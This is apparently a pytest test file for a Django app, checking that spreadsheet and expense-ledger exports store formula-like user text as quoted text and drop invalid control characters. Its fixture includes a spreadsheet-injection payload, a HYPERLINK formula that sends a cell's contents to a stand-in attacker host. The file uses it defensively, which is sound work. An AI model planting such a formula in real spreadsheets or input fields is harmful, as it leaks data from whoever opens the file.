"""Exports keep text as text: what a person typed never runs as a formula elsewhere."""

import io

import openpyxl
import pytest
from django.urls import reverse

from tandem.core.spreadsheets import append_text_safe, workbook

FORMULA = '=HYPERLINK("http://evil.example/?"&B2, "Open")'
RISKY = [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\r=1"]


def _reread(data):
    return openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]


def test_workbook_writes_formula_like_text_as_quoted_text():
    sheet = _reread(workbook("T", ["h"], [[*RISKY, "plain", 7]]))
    cells = list(sheet[2])
    for cell, typed in zip(cells, RISKY, strict=False):
        # XML turns a carriage return into a line feed; the prefix is what matters.
        expected = typed.replace("\r", "\n")
        assert (cell.value, cell.data_type, cell.quotePrefix) == (expected, "s", True)
    assert (cells[-2].value, cells[-2].quotePrefix) == ("plain", False)
    assert (cells[-1].value, cells[-1].data_type) == (7, "n")


def test_ordinary_worksheet_rows_are_text_safe_too():
    book = openpyxl.Workbook()
    append_text_safe(book.active, [FORMULA, 3])
    buffer = io.BytesIO()
    book.save(buffer)
    cell = _reread(buffer.getvalue())["A1"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (FORMULA, "s", True)


def test_control_characters_a_workbook_cannot_hold_are_dropped_not_a_500():
    assert _reread(workbook("T", ["h"], [["bell\x07 and\x0b tab"]]))["A2"].value == "bell and tab"


@pytest.mark.django_db
def test_a_formula_in_an_expense_description_is_exported_as_text(cast, client_for):
    from tandem.funds.tests.factories import ExpenseFactory, funded_cultivation

    allocation = funded_cultivation(cast)
    ExpenseFactory(fund=allocation.fund, description=FORMULA, recorded_by=cast.tutor_b)
    response = client_for("coord_b").get(reverse("funds:ledger_export", args=[allocation.fund_id]))
    cell = _reread(response.content)["D2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (FORMULA, "s", True)
